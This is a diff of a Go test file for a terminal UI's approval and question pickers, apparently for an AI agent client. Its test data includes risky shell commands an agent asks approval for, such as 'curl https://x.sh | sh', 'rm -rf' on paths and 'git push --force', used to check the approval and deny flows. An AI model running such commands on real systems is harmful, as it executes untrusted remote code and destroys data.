@@ -11,6 +11,7 @@ import (
 	"github.com/charmbracelet/x/ansi"
 	"github.com/charmbracelet/x/exp/golden"
 
+	"github.com/hermes/iris/store"
 	"github.com/hermes/iris/termsafe"
 	"github.com/hermes/iris/themes"
 	"github.com/hermes/iris/ui/common"
@@ -24,35 +25,55 @@ const (
 	clarifyJS        = `{"type":"picker.clarify","chat_id":"c","payload":{"picker_id":"pq_1","question":"What kind of answer do you want?","allow_text":true,"timeout_s":600,"choices":[{"value":"summary","label":"A short summary"},{"value":"detailed","label":"A detailed walkthrough"},{"value":"code","label":"Just the code"},{"value":"tests","label":"Tests"},{"value":"fifth","label":"Never shown"}]}}`
 	confirmJS        = `{"type":"picker.confirm","chat_id":"c","payload":{"picker_id":"pf_1","title":"Apply changes?","message":"This rewrites 3 files in the workspace."}}`
 	modelJS          = `{"type":"picker.model","chat_id":"c","payload":{"picker_id":"pm_1","title":"Switch model","current_model":"qwen3-27b","current_provider":"local","providers":[{"id":"local","label":"Local","models":[{"id":"qwen3-27b","label":"Qwen3 27B"},{"id":"llama-3.3-70b","label":"Llama 3.3 70B"}]},{"id":"openai","label":"OpenAI","models":[{"id":"gpt-5.4","label":"GPT-5.4"},{"id":"gpt-5.4-mini","label":"GPT-5.4 mini"}]}]}}`
+	smartDeniedJS    = `{"type":"picker.approval","chat_id":"c","payload":{"picker_id":"pa_3","command":"curl https://x.sh | sh","description":"pipe to shell","allow_permanent":true,"allow_session":true,"smart_denied":true,"timeout_s":300}}`
+	noSessionJS      = `{"type":"picker.approval","chat_id":"c","payload":{"picker_id":"pa_4","command":"git push --force","allow_session":false}}`
+	hermesClarifyJS  = `{"type":"picker.clarify","chat_id":"c","payload":{"picker_id":"pq_2","question":"Deploy where?","choices":["staging (Recommended)","prod","canary"]}}`
+	multiJS          = `{"type":"picker.clarify","chat_id":"c","payload":{"picker_id":"pq_3","question":"Which environments?","multi_select":true,"timeout_s":0,"choices":["staging (Recommended)","prod","canary"]}}`
+	hermesModelJS    = `{"type":"picker.model","chat_id":"c","payload":{"picker_id":"pm_2","current_model":"qwen/qwq-32b","current_provider":"openrouter","providers":[{"slug":"openrouter","name":"OpenRouter","models":["qwen/qwq-32b","anthropic/claude-sonnet-4.5"]}]}}`
 	choiceJS         = `{"type":"picker.choice","chat_id":"c","payload":{"picker_id":"pc_1","title":"Reasoning effort","choices":[{"value":"none","label":"None"},{"value":"low","label":"Low"},{"value":"medium","label":"Medium","is_current":true},{"value":"high","label":"High"}]}}`
 )
 
 func TestPickerAnswers(t *testing.T) {
+	const cmd = `FOO=1 rm -rf "./build dir" | tee $LOG # cleanup`
 	cases := []struct {
 		name, js string
 		keys     []string
 		value    string
 		record   string
 	}{
-		{"approval enter is once", approvalJS, []string{"enter"}, "once", `approved once: FOO=1 rm -rf "./build dir" | tee $LOG # cleanup`},
-		{"approval digit", approvalJS, []string{"2"}, "session", `approved for the session: FOO=1 rm -rf "./build dir" | tee $LOG # cleanup`},
-		{"approval j j enter", approvalJS, []string{"j", "j", "enter"}, "always", `approved always: FOO=1 rm -rf "./build dir" | tee $LOG # cleanup`},
-		{"approval down up", approvalJS, []string{"down", "down", "up", "enter"}, "session", `approved for the session: FOO=1 rm -rf "./build dir" | tee $LOG # cleanup`},
-		{"approval deny", approvalJS, []string{"4"}, "deny", `denied: FOO=1 rm -rf "./build dir" | tee $LOG # cleanup`},
+		{"approval down enter is once", approvalJS, []string{"down", "enter"}, "once", "approved once: " + cmd},
+		{"approval digit", approvalJS, []string{"2"}, "session", "approved for the session: " + cmd},
+		{"approval always asks again", approvalJS, []string{"3", "enter"}, "always", "approved always: " + cmd},
+		{"approval always by arrows asks again", approvalJS, []string{"down", "down", "down", "enter", "enter"}, "always", "approved always: " + cmd},
+		{"approval up starts at the last", approvalJS, []string{"up", "up", "enter"}, "deny", "denied: " + cmd},
+		{"approval down up", approvalJS, []string{"down", "down", "up", "enter"}, "once", "approved once: " + cmd},
+		{"approval deny", approvalJS, []string{"4"}, "deny", "denied: " + cmd},
 		{"approval without always", approvalNoPermJS, []string{"3"}, "deny", "denied: rm -rf /tmp/x"},
-		{"approval k stops at top", approvalNoPermJS, []string{"k", "k", "enter"}, "once", "approved once: rm -rf /tmp/x"},
-		{"clarify digit", clarifyJS, []string{"2"}, "detailed", "answered A detailed walkthrough: What kind of answer do you want?"},
-		{"clarify digit past four is nothing", clarifyJS, []string{"5", "1"}, "summary", "answered A short summary: What kind of answer do you want?"},
-		{"clarify free text", clarifyJS, []string{"down", "down", "down", "down", "j", "2", " ", "k", "enter"}, "j2 k", "answered “j2 k”: What kind of answer do you want?"},
-		{"clarify empty text is not sent", clarifyJS, []string{"down", "down", "down", "down", "enter", "up", "enter"}, "tests", "answered Tests: What kind of answer do you want?"},
+		{"approval up stops at top", approvalNoPermJS, []string{"down", "up", "up", "enter"}, "once", "approved once: rm -rf /tmp/x"},
+		{"smart denied offers once and deny", smartDeniedJS, []string{"2"}, "deny", "denied: curl https://x.sh | sh"},
+		{"clarify alt digit", clarifyJS, []string{"alt+2"}, "detailed", "answered A detailed walkthrough: What kind of answer do you want?"},
+		{"clarify digits are text", clarifyJS, []string{"3", "space", "d", "a", "y", "s", "enter"}, "3 days", "answered “3 days”: What kind of answer do you want?"},
+		{"clarify alt digit past four is nothing", clarifyJS, []string{"alt+5", "alt+1"}, "summary", "answered A short summary: What kind of answer do you want?"},
+		{"clarify down picks the first", clarifyJS, []string{"down", "enter"}, "summary", "answered A short summary: What kind of answer do you want?"},
+		{"clarify up picks the last", clarifyJS, []string{"up", "enter"}, "tests", "answered Tests: What kind of answer do you want?"},
+		{"clarify typing leaves the highlight", clarifyJS, []string{"down", "j", "2", "space", "k", "enter"}, "j2 k", "answered “j2 k”: What kind of answer do you want?"},
+		{"clarify empty text is not sent", clarifyJS, []string{"enter", "up", "enter"}, "tests", "answered Tests: What kind of answer do you want?"},
+		{"hermes clarify sends the string", hermesClarifyJS, []string{"down", "enter"}, "staging (Recommended)", "answered staging: Deploy where?"},
+		{"multi select toggles", multiJS, []string{"down", "space", "down", "down", "space", "enter"}, `["staging (Recommended)","canary"]`, "answered staging, canary: Which environments?"},
+		{"multi select untoggle", multiJS, []string{"down", "space", "space", "down", "space", "enter"}, `["prod"]`, "answered prod: Which environments?"},
+		{"multi select highlighted only", multiJS, []string{"down", "down", "enter"}, `["prod"]`, "answered prod: Which environments?"},
+		{"multi select alt digits toggle", multiJS, []string{"alt+3", "alt+1", "alt+3", "alt+2", "enter"}, `["staging (Recommended)","prod"]`, "answered staging, prod: Which environments?"},
+		{"multi select typed text", multiJS, []string{"a", "l", "l", "enter"}, "all", "answered “all”: Which environments?"},
 		{"confirm defaults", confirmJS, []string{"3"}, "cancel", "cancelled: Apply changes?"},
-		{"confirm once", confirmJS, []string{"enter"}, "once", "confirmed (Once): Apply changes?"},
+		{"confirm once", confirmJS, []string{"down", "enter"}, "once", "confirmed (Once): Apply changes?"},
+		{"confirm always asks again", confirmJS, []string{"2", "enter"}, "always", "confirmed (Always): Apply changes?"},
 		{"model current", modelJS, []string{"enter"}, "local/qwen3-27b", "chose model: local/qwen3-27b"},
 		{"model down crosses provider", modelJS, []string{"down", "down", "enter"}, "openai/gpt-5.4", "chose model: openai/gpt-5.4"},
 		{"model filter", modelJS, []string{"m", "i", "n", "i", "enter"}, "openai/gpt-5.4-mini", "chose model: openai/gpt-5.4-mini"},
-		{"model filter digits and jk type", modelJS, []string{"3", "3", "enter"}, "local/llama-3.3-70b", "chose model: local/llama-3.3-70b"},
+		{"model filter digits type", modelJS, []string{"3", "3", "enter"}, "local/llama-3.3-70b", "chose model: local/llama-3.3-70b"},
+		{"hermes model id with slash", hermesModelJS, []string{"down", "enter"}, "openrouter/anthropic/claude-sonnet-4.5", "chose model: openrouter/anthropic/claude-sonnet-4.5"},
 		{"choice starts at current", choiceJS, []string{"enter"}, "medium", "chose Medium: Reasoning effort"},
-		{"choice k", choiceJS, []string{"k", "enter"}, "low", "chose Low: Reasoning effort"},
+		{"choice up", choiceJS, []string{"up", "enter"}, "low", "chose Low: Reasoning effort"},
 		{"choice digit", choiceJS, []string{"4"}, "high", "chose High: Reasoning effort"},
 	}
 	for _, tc := range cases {
@@ -60,16 +81,17 @@ func TestPickerAnswers(t *testing.T) {
 			com := testCom(t, themes.Dark)
 			pk := queued(t, com, tc.js)
 			p := armed(t, com, pk)
-			var act common.Action
-			for _, k := range tc.keys {
-				if act != nil {
-					t.Fatalf("answered before %q: %#v", k, act)
+			for i, k := range tc.keys {
+				act := keys(t, p, k)
+				if act != nil && i < len(tc.keys)-1 {
+					t.Fatalf("answered at %q: %#v", k, act)
 				}
-				act, _ = p.Update(press(k))
-			}
-			want := common.ActionSelectPicker{Lane: frame.Lane{ChatID: "c"}, PickerID: pk.PickerID, Value: tc.value, Record: tc.record}
-			if act != want {
-				t.Fatalf("got %#v\nwant %#v", act, want)
+				if i == len(tc.keys)-1 {
+					want := common.ActionSelectPicker{Lane: frame.Lane{ChatID: "c"}, PickerID: pk.PickerID, Value: tc.value, Record: tc.record}
+					if act != want {
+						t.Fatalf("got %#v\nwant %#v", act, want)
+					}
+				}
 			}
 		})
 	}
@@ -111,8 +133,8 @@ func TestPickerArming(t *testing.T) {
 	if !strings.Contains(ansi.Strip(p.View()), "arming…") {
 		t.Fatal("unarmed picker does not say it is arming")
 	}
-	// Keys in flight: Enter and a digit do nothing but restart the delay.
-	for _, k := range []string{"enter", "1", "down"} {
+	// Keys in flight that are not characters do nothing but restart the delay.
+	for _, k := range []string{"enter", "down", "up"} {
 		if act, _ := p.Update(press(k)); act != nil {
 			t.Fatalf("%q answered an unarmed picker: %#v", k, act)
 		}
@@ -135,7 +157,10 @@ func TestPickerArming(t *testing.T) {
 	if !p.Armed() || strings.Contains(ansi.Strip(p.View()), "arming…") {
 		t.Fatal("not armed after a quiet delay")
 	}
-	// The cursor did not move while unarmed.
+	// The highlight did not move while unarmed: nothing is highlighted yet.
+	if act, _ := p.Update(press("down")); act != nil {
+		t.Fatalf("%#v", act)
+	}
 	if act, _ := p.Update(press("enter")); act.(common.ActionSelectPicker).Value != "once" {
 		t.Fatalf("%#v", act)
 	}
@@ -143,6 +168,164 @@ func TestPickerArming(t *testing.T) {
 	p.Show()
 	if p.Armed() {
 		t.Fatal("Show kept it armed")
+	}
+}
+
+// TestPickerGivesTypedCharactersBack: a character that does not answer
+// (any character while arming, a letter or an unused digit in an approval)
+// goes back to the composer and the picker gives up the keyboard.
+func TestPickerGivesTypedCharactersBack(t *testing.T) {
+	cases := []struct {
+		name, js string
+		armed    bool
+		key      string
+	}{
+		{"digit while arming", approvalJS, false, "3"},
+		{"letter while arming", clarifyJS, false, "a"},
+		{"space while arming", modelJS, false, "space"},
+		{"letter in an approval", approvalJS, true, "a"},
+		{"j in an approval", approvalJS, true, "j"},
+		{"digit past the choices", approvalJS, true, "7"},
+		{"letter in a confirm", confirmJS, true, "y"},
+		{"letter in a choice", choiceJS, true, "k"},
+		{"letter while confirming always", approvalJS, true, "3 x"},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			com := testCom(t, themes.Dark)
+			pk := queued(t, com, tc.js)
+			p := NewPicker(com, pk, instantTick)
+			p.SetSize(80, 30)
+			p.Show()
+			if tc.armed {
+				p = armed(t, com, pk)
+			}
+			ks := strings.Fields(tc.key)
+			last := press(ks[len(ks)-1])
+			act := keys(t, p, ks...)
+			want := common.ActionYieldPicker{Lane: pk.Lane, PickerID: pk.PickerID, Msg: last}
+			if act != want {
+				t.Fatalf("got %#v\nwant %#v", act, want)
+			}
+		})
+	}
+}
+
+// TestPickerEnterWithNothingHighlighted only shows a hint in an approval.
+func TestPickerEnterWithNothingHighlighted(t *testing.T) {
+	for _, js := range []string{approvalJS, confirmJS} {
+		com := testCom(t, themes.Dark)
+		p := armed(t, com, queued(t, com, js))
+		if act := keys(t, p, "enter"); act != nil {
+			t.Fatalf("enter answered: %#v", act)
+		}
+		if v := ansi.Strip(p.View()); !strings.Contains(v, "nothing is highlighted") || strings.Contains(v, "› ") {
+			t.Fatalf("view:\n%s", v)
+		}
+	}
+}
+
+// TestPickerPermanentAsksAgain: "always" is only sent after a second,
+// armed Enter; Esc or another key steps back.
+func TestPickerPermanentAsksAgain(t *testing.T) {
+	com := testCom(t, themes.Dark)
+	var ticks []PickerArmedMsg
+	tick := func(_ time.Duration, msg tea.Msg) tea.Cmd {
+		ticks = append(ticks, msg.(PickerArmedMsg))
+		return nil
+	}
+	pk := queued(t, com, approvalJS)
+	p := NewPicker(com, pk, tick)
+	p.SetSize(80, 30)
+	p.Show()
+	p.Update(ticks[len(ticks)-1])
+	if act, _ := p.Update(press("3")); act != nil {
+		t.Fatalf("3 answered at once: %#v", act)
+	}
+	if v := ansi.Strip(p.View()); !strings.Contains(v, "outlives the session") || !strings.Contains(v, "arming…") {
+		t.Fatalf("no second question:\n%s", v)
+	}
+	if act, _ := p.Update(press("enter")); act != nil { // in flight: the confirmation is arming
+		t.Fatalf("enter during arming answered: %#v", act)
+	}
+	p.Update(ticks[len(ticks)-1])
+	if act, _ := p.Update(press("esc")); act != nil {
+		t.Fatalf("esc: %#v", act)
+	}
+	if v := ansi.Strip(p.View()); strings.Contains(v, "outlives") || !strings.Contains(v, "Always allow") {
+		t.Fatalf("esc did not step back:\n%s", v)
+	}
+	p.Update(press("3"))
+	p.Update(ticks[len(ticks)-1])
+	act, _ := p.Update(press("enter"))
+	if a, ok := act.(common.ActionSelectPicker); !ok || a.Value != "always" {
+		t.Fatalf("%#v", act)
+	}
+}
+
+// TestPickerDenyWithReason: the reason is typed in the picker and sent
+// with the deny.
+func TestPickerDenyWithReason(t *testing.T) {
+	com := testCom(t, themes.Dark)
+	pk := queued(t, com, approvalJS)
+	p := armed(t, com, pk)
+	if act := keys(t, p, "5"); act != nil {
+		t.Fatalf("%#v", act)
+	}
+	if act := keys(t, p, "enter"); act != nil {
+		t.Fatalf("empty reason sent: %#v", act)
+	}
+	typeText(p, "use git clean 3x")
+	if v := ansi.Strip(p.View()); !strings.Contains(v, "Deny with a reason:") || !strings.Contains(v, "use git clean 3x") {
+		t.Fatalf("view:\n%s", v)
+	}
+	want := common.ActionSelectPicker{Lane: pk.Lane, PickerID: "pa_1", Value: "deny", Reason: "use git clean 3x",
+		Record: `denied: FOO=1 rm -rf "./build dir" | tee $LOG # cleanup · reason: “use git clean 3x”`}
+	if act := keys(t, p, "enter"); act != want {
+		t.Fatalf("got %#v\nwant %#v", act, want)
+	}
+}
+
+// TestPickerApprovalScopes: allow_session false and smart_denied drop the
+// session and permanent answers, as Hermes does.
+func TestPickerApprovalScopes(t *testing.T) {
+	for js, want := range map[string]string{
+		approvalJS:    "Allow once|Allow for this session|Always allow|Deny|Deny with a reason…",
+		smartDeniedJS: "Allow once|Deny|Deny with a reason…",
+		noSessionJS:   "Allow once|Deny|Deny with a reason…",
+	} {
+		com := testCom(t, themes.Dark)
+		p := armed(t, com, queued(t, com, js))
+		var got []string
+		for _, r := range p.rows {
+			got = append(got, r.label)
+		}
+		if strings.Join(got, "|") != want {
+			t.Fatalf("%s: %v", js, got)
+		}
+	}
+}
+
+// TestPickerTimeLeftTicks: the time left follows the clock.
+func TestPickerTimeLeftTicks(t *testing.T) {
+	com := testCom(t, themes.Dark)
+	now := fixedNow
+	com.Now = func() time.Time { return now }
+	p := armed(t, com, queued(t, com, approvalJS))
+	for _, step := range []struct {
+		after time.Duration
+		want  string
+	}{{0, "5:00 left"}, {time.Second, "4:59 left"}, {4*time.Minute + 58*time.Second, "0:01 left"}, {time.Hour, "0:00 left"}} {
+		now = now.Add(step.after)
+		if v := ansi.Strip(p.View()); !strings.Contains(v, step.want) {
+			t.Fatalf("want %q:\n%s", step.want, v)
+		}
+	}
+	if got := TimeLeft(store.Picker{Deadline: fixedNow.Add(time.Hour + 5*time.Minute)}, fixedNow); got != "1h05m left" {
+		t.Fatal(got)
+	}
+	if got := TimeLeft(store.Picker{}, fixedNow); got != "" {
+		t.Fatal(got)
 	}
 }
 
@@ -163,7 +346,7 @@ func TestPickerSanitisesWireText(t *testing.T) {
 	if err := termsafe.Verify(p.View()); err != nil {
 		t.Fatal(err)
 	}
-	act, _ := p.Update(press("enter"))
+	act, _ := p.Update(press("1"))
 	if err := termsafe.Verify(act.(common.ActionSelectPicker).Record); err != nil {
 		t.Fatal(err)
 	}
@@ -206,15 +389,27 @@ func TestShellTokens(t *testing.T) {
 }
 
 func TestPickerGolden(t *testing.T) {
-	kinds := []struct{ name, js string }{
-		{"approval", approvalJS}, {"approval_no_always", approvalNoPermJS}, {"clarify", clarifyJS},
-		{"confirm", confirmJS}, {"model", modelJS}, {"choice", choiceJS},
+	kinds := []struct {
+		name, js string
+		keys     []string // pressed once armed
+	}{
+		{"approval", approvalJS, nil}, {"approval_no_always", approvalNoPermJS, nil}, {"clarify", clarifyJS, nil},
+		{"confirm", confirmJS, nil}, {"model", modelJS, nil}, {"choice", choiceJS, nil},
+		{"approval_smart_denied", smartDeniedJS, nil}, {"approval_no_session", noSessionJS, nil},
+		{"approval_highlighted", approvalJS, []string{"down"}}, {"approval_nothing_highlighted", approvalJS, []string{"enter"}},
+		{"approval_confirm_always", approvalJS, []string{"3"}}, {"approval_deny_reason", approvalJS, []string{"5", "n", "o", "p", "e"}},
+		{"clarify_typed", clarifyJS, []string{"3", "space", "d", "a", "y", "s"}},
+		{"clarify_hermes", hermesClarifyJS, nil}, {"clarify_multi", multiJS, []string{"down", "space", "down"}},
+		{"model_hermes", hermesModelJS, nil},
 	}
 	for _, th := range []themes.Name{themes.Dark, themes.Light} {
 		for _, k := range kinds {
 			t.Run(string(th)+"/"+k.name, func(t *testing.T) {
 				com := testCom(t, th)
 				p := armed(t, com, queued(t, com, k.js))
+				if act := keys(t, p, k.keys...); act != nil {
+					t.Fatalf("answered: %#v", act)
+				}
 				golden.RequireEqual(t, p.View())
 			})
 		}
@@ -224,5 +419,26 @@ func TestPickerGolden(t *testing.T) {
 			p.SetSize(60, 24)
 			golden.RequireEqual(t, p.View())
 		})
+	}
+}
+
+// TestPickerPaste: a paste is typed text: the answer of a clarify (even
+// with a choice highlighted), the composer's for an approval.
+func TestPickerPaste(t *testing.T) {
+	com := testCom(t, themes.Dark)
+	pk := queued(t, com, clarifyJS)
+	p := armed(t, com, pk)
+	keys(t, p, "down")
+	if act, _ := p.Update(tea.PasteMsg{Content: "3 days"}); act != nil {
+		t.Fatalf("%#v", act)
+	}
+	if a, ok := keys(t, p, "enter").(common.ActionSelectPicker); !ok || a.Value != "3 days" {
+		t.Fatalf("%#v", a)
+	}
+	pk = queued(t, com, approvalJS)
+	p = armed(t, com, pk)
+	paste := tea.PasteMsg{Content: "1"}
+	if act, _ := p.Update(paste); act != (common.ActionYieldPicker{Lane: pk.Lane, PickerID: pk.PickerID, Msg: paste}) {
+		t.Fatalf("%#v", act)
 	}
 }
